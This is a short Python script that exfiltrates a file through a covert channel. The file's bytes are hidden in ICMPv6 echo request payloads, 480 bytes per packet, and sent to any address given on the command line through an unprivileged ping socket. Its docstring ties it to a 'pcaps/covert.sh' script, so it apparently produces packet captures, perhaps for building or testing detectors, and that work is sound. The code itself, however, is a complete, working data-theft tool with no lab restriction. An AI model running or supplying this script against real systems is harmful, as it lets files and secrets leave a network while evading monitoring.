#!/usr/bin/env python3
"""A file sent in ICMPv6 echo payloads, for pcaps/covert.sh (stdlib only).

usage: covert_icmp_exfil.py FILE ADDRESS
480 bytes per echo request, one every 0.1 s, through an unprivileged ping socket
(needs net.ipv6... ping_group_range covering the user's group; the kernel fills
in the identifier and checksum).
"""
import socket
import struct
import sys
import time


def main() -> int:
    path, addr = sys.argv[1:3]
    data = open(path, "rb").read()
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
    for seq, i in enumerate(range(0, len(data), 480)):
        s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0, seq) + data[i:i + 480], (addr, 0))
        time.sleep(0.1)
    return 0


if __name__ == "__main__":
    sys.exit(main())
